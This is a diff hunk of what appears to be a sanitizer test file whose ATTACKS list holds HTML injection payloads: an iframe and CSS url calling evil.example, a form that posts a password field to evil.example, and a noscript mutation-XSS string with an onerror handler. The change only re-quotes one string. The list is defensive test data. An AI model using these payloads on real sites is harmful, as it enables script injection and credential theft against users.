@@ -18,7 +18,7 @@ ATTACKS = [
     "<iframe src=https://evil.example></iframe>",
     "<p style='background:url(https://evil.example)'>x",
     "<form action=https://evil.example><input name=password>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
 ]
 
 
